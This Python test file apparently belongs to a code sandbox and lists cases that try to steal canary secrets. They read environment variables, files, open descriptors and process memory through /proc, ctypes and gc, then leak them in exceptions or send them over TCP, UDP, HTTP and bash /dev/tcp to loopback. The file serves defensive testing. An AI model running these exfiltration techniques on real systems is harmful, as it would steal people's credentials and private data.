"""Cases that read a secret of the caller and get it out: in a message, in the answer, as numbers, over the network."""

from __future__ import annotations

from typing import Final

from tests.sandbox.firing.canaries import SECRETS, VARIABLE
from tests.sandbox.firing.case import Calls, Case, Leaks, at_top, inside

_ANSWER: Final = "os.write(3, {}.encode())\nos._exit(0)"


def _raise(what: str, imports: str = "os") -> str:
    return inside(f"import {imports}\nraise ValueError({what})")


def _answer(what: str) -> str:
    return inside("import os\n" + _ANSWER.format(what))


ENVIRONMENT: Final = (
    Case("environment in a message", _raise(f"os.environ['{VARIABLE}']"), Leaks("environment")),
    Case("whole environment as the answer", _answer("repr(dict(os.environ))"), Leaks("environment")),
    Case(
        "environment as numbers in the weights",
        inside(
            f"import os\nkey = [float(b) for b in os.environ['{VARIABLE}'].encode()]\n"
            "return x[:, :1] * 0.0 + torch.tensor(key)"
        ),
        Leaks("environment"),
    ),
    Case(
        "environment as constants beside the weights",
        inside(
            f"import os\nkey = torch.tensor([float(b) for b in os.environ.get('{VARIABLE}', 'none').encode()])\n"
            "total = x.detach() + key.sum() * 0.0\nif total.is_leaf:\n    raise ValueError(key.tolist())"
        ),
        Leaks("environment"),
    ),
    Case(
        "environment through /proc",
        _raise("open('/proc/self/environ', 'rb').read().hex()"),
        Leaks("environment"),
    ),
    Case(
        "environment of the parent through /proc",
        _raise("open(f'/proc/{os.getppid()}/environ', 'rb').read()[::-1]"),
        Leaks("environment"),
    ),
    Case(
        "environment through the C library",
        inside(
            "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.getenv.restype = ctypes.c_char_p\n"
            f"raise ValueError(libc.getenv(b'{VARIABLE}'))"
        ),
        Leaks("environment"),
    ),
    Case("environment as base64", _raise("base64.b64encode(repr(os.environ).encode())", "os, base64"),
         Leaks("environment")),
    Case("environment in a KeyError", inside("import os\n{}[repr(os.environ)]"), Leaks("environment")),
    Case(
        "environment in the text of an exception of its own",
        at_top(
            "import os\nclass Odd(Exception):\n    def __str__(self):\n        return repr(os.environ)\n\n"
            "raise Odd()"
        ),
        Leaks("environment"),
    ),
    Case("environment in a warning made an error",
         _raise("warnings.warn(str(dict(os.environ)))", "os, warnings; warnings.simplefilter('error')"),
         Leaks("environment")),
    Case("environment as a missing attribute",
         inside(f"import os\ngetattr(torch, os.environ['{VARIABLE}'])"), Leaks("environment")),
)  # fmt: skip
"""The environment, by every road."""

FILES: Final = (
    Case("file by open", _raise("open('{folder}/secret.txt').read()"), Leaks("file")),
    Case(
        "file by system calls",
        inside("import os\nf = os.open('{folder}/secret.txt', os.O_RDONLY)\nos.write(3, os.read(f, 100))\nos._exit(0)"),
        Leaks("file"),
    ),
    Case("file by pathlib", _raise("pathlib.Path('{folder}/secret.txt').read_bytes()", "pathlib"), Leaks("file")),
    Case("file by codecs", _raise("codecs.open('{folder}/secret.txt').read()", "codecs"), Leaks("file")),
    Case("file by linecache", _raise("linecache.getline('{folder}/secret.txt', 1)", "linecache"), Leaks("file")),
    Case("file by io", _raise("io.FileIO('{folder}/secret.txt').readall()", "io"), Leaks("file")),
    Case(
        "file by numpy",
        inside("import numpy as np\nraise ValueError(np.fromfile('{folder}/secret.txt', dtype='u1').tolist())"),
        Leaks("file"),
    ),
    Case(
        "file as a tensor",
        inside(
            f"key = torch.from_file('{{folder}}/secret.txt', size={len(SECRETS['file'])}, dtype=torch.uint8)\n"
            "raise ValueError(key.tolist())"
        ),
        Leaks("file"),
    ),
    Case("file by torch.load", inside("raise ValueError(torch.load('{folder}/secret.pt'))"), Leaks("file")),
    Case(
        "file through a module's loader",
        inside("raise ValueError(torch.__loader__.get_data('{folder}/secret.txt'))"),
        Leaks("file"),
    ),
    Case(
        "file through a memory map",
        inside(
            "import mmap, os\nf = os.open('{folder}/secret.txt', os.O_RDONLY)\n"
            "raise ValueError(mmap.mmap(f, 0, prot=mmap.PROT_READ)[:])"
        ),
        Leaks("file"),
    ),
    Case("file through `with`", inside("with open('{folder}/secret.txt') as f:\n    raise ValueError(f.read())"),
         Leaks("file")),
    Case("file through fileinput", _raise("list(fileinput.input('{folder}/secret.txt'))", "fileinput"), Leaks("file")),
    Case("file through a program", _raise("os.popen('cat {folder}/secret.txt').read()"), Leaks("file")),
    Case(
        "open descriptor of the caller",
        inside(
            "import os\nfor number in range(4, 1024):\n    try:\n        loot = os.pread(number, 100, 0)\n"
            "    except OSError:\n        continue\n    if b'canary' in loot:\n        raise ValueError(loot)"
        ),
        Leaks("descriptor"),
    ),
    Case(
        "open descriptor reopened through /proc",
        inside(
            "import os\nfor name in os.listdir('/proc/self/fd'):\n    path = '/proc/self/fd/' + name\n"
            "    if os.path.isfile(path) and b'canary' in open(path, 'rb').read(100):\n"
            "        raise ValueError(open(path, 'rb').read(100))"
        ),
        Leaks("descriptor"),
    ),
)  # fmt: skip
"""Files and open descriptors."""

_SCAN: Final = """
import os, re
fields = [line.split() for line in open('/proc/{which}/maps')]
memory = os.open('/proc/{which}/mem', os.O_RDONLY)
for place in fields:
    first, last = (int(end, 16) for end in place[0].split('-'))
    if place[1].startswith('rw') and (len(place) < 6 or place[5] == '[heap]'):
        try:
            data = os.pread(memory, min(last - first, 1 << 26), first)
        except OSError:
            continue
        loot = re.findall(b'canary-memor[y]-[0-9]+', data)
        if loot:
            raise ValueError(loot)
"""

MEMORY: Final = (
    Case(
        "objects of the collector",
        inside(
            "import gc\ngc.unfreeze()\nlists = [o for o in gc.get_objects() if isinstance(o, list)]\n"
            "loot = [o for l in lists for o in l if isinstance(o, str)]\n"
            "raise ValueError([o for o in loot if o.startswith('canary')])"
        ),
        Leaks("memory"),
    ),
    Case(
        "frames below",
        inside("import sys\nframe = sys._getframe()\nwhile frame.f_back:\n    frame = frame.f_back\n"
               "raise ValueError(str(frame.f_globals.get('held', frame.f_globals)))"),
        Leaks("memory"),
    ),
    Case(
        "frames through inspect",
        _raise("[f.frame.f_globals.get('held') for f in inspect.stack()]", "inspect"),
        Leaks("memory"),
    ),
    Case(
        "main module",
        _raise("sys.modules['__main__'].held", "sys"),
        Leaks("memory"),
    ),
    Case(
        "frame of a traceback",
        inside("try:\n    x.none\nexcept AttributeError as error:\n"
               "    raise ValueError(error.__traceback__.tb_frame.f_back.f_globals['held'])"),
        Leaks("memory"),
    ),
    Case("own memory through /proc", inside(_SCAN.replace("{which}", "self")), Leaks("memory")),
    Case(
        "memory of the parent through /proc",
        inside(_SCAN.replace("'/proc/{which}/", "f'/proc/{os.getppid()}/")),
        Leaks("memory"),
    ),
)  # fmt: skip
"""What the caller has in memory."""

_KEY: Final = f"os.environ['{VARIABLE}'].encode()"

NETWORK: Final = (
    Case(
        "secret over TCP",
        inside(
            "import os, socket\ns = socket.create_connection(('127.0.0.1', {port}))\n" + f"s.sendall({_KEY})"
        ),
        Leaks("environment"),
    ),
    Case(
        "secret over UDP",
        inside(
            "import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"s.sendto({_KEY}, ('127.0.0.1', {{port}}))"
        ),
        Leaks("environment"),
    ),
    Case(
        "secret in a web address",
        inside(
            "import os, urllib.request\n"
            f"urllib.request.urlopen('http://127.0.0.1:{{port}}/' + os.environ['{VARIABLE}'], timeout=5)"
        ),
        Leaks("environment"),
    ),
    Case(
        "secret in a web header",
        inside(
            "import os, http.client\nc = http.client.HTTPConnection('127.0.0.1', {port}, timeout=5)\n"
            f"c.request('GET', '/', headers={{'X': os.environ['{VARIABLE}']}})"
        ),
        Leaks("environment"),
    ),
    Case(
        "secret from a program's connection",
        inside(
            "import os\nscript = 'exec 9<>/dev/tcp/127.0.0.1/{port}; echo $" + VARIABLE + " >&9'\n"
            "os.execvp('bash', ['bash', '-c', script])"
        ),
        Leaks("environment"),
    ),
    Case(
        "weights from a web address",
        inside("torch.hub.load_state_dict_from_url('http://127.0.0.1:{port}/w.pt', '{folder}')"),
        Calls(),
    ),
    Case(
        "call of a remote procedure",
        inside("import xmlrpc.client\nxmlrpc.client.ServerProxy('http://127.0.0.1:{port}').go()"),
        Calls(),
    ),
    Case(
        "store of torch.distributed",
        inside(
            "import datetime\nshort = datetime.timedelta(milliseconds=200)\n"
            "torch.distributed.TCPStore('127.0.0.1', {port}, 2, False, short)"
        ),
        Calls(),
    ),
)  # fmt: skip
"""The network, which here ends on loopback."""

CASES: Final = (*ENVIRONMENT, *FILES, *MEMORY, *NETWORK)
